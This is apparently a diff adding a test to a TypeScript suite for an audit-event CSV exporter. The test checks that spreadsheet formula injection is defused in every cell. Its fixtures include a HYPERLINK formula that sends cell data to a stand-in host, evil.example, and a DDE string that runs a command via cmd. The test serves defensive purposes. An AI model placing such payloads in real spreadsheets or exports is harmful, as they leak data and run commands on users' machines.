@@ -56,6 +56,26 @@ describe("exportEvents", () => {
     expect(JSON.parse(cell("details")!)).toEqual({ old_value: 'a, "b"\nc' });
   });
 
+  it("case 4: defuses a formula in every cell of upstream origin, not only the names", async () => {
+    const formulas = { subtype: '=HYPERLINK("http://evil.example/?"&A1,"x")', auth: "=cmd|' /C calc'!A0" };
+    const v = { tab: "\tname-formula-78", cr: "\rmail" };
+    await db().$executeRaw`INSERT INTO audit_event (gid, workspace_gid, created_at, event_type, event_category, actor_type, actor_gid, actor_name, actor_email,
+        resource_type, resource_subtype, resource_gid, resource_name, resource_email, context_type, client_ip, user_agent, auth_method, oauth_app_name, details, raw)
+      VALUES ('-78', '+1', now(), '=event()', '@category', '-user', '+2', '=a', '@b', '+type', ${formulas.subtype}, '-3', ${v.tab}, ${v.cr}, '=web', '10.0.0.1',
+        '=ua', ${formulas.auth}, '@app', '"=json"'::jsonb, '{}'::json)`;
+    const filter = withCondition(all, { dimension: "text", value: "name-formula-78", exclude: false });
+    const [header, row] = parseCsv(await read(exportEvents({ filter, columns: [...EVENT_COLUMNS], sort: "newest", format: "csv" })));
+    const cells = Object.fromEntries(header!.map((name, i) => [name, row![i]!]));
+    expect(cells.resource_subtype).toBe(`'${formulas.subtype}`);
+    expect(cells.auth_method).toBe(`'${formulas.auth}`);
+    for (const [name, value] of Object.entries(cells)) {
+      if (name === "created_at" || name === "client_ip" || name === "details") continue;
+      expect(value, name).toMatch(/^'[-=+@\t\r]/);
+    }
+    // A JSON string value starts with a quote, so it reads as text as it is.
+    expect(cells.details).toBe('"=json"');
+  });
+
   it("writes NDJSON objects with the chosen columns' fields", async () => {
     const text = await read(exportEvents({ filter: all, columns: [...EVENT_COLUMNS], sort: "oldest", format: "ndjson", batchSize: 400 }));
     const lines = text.trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
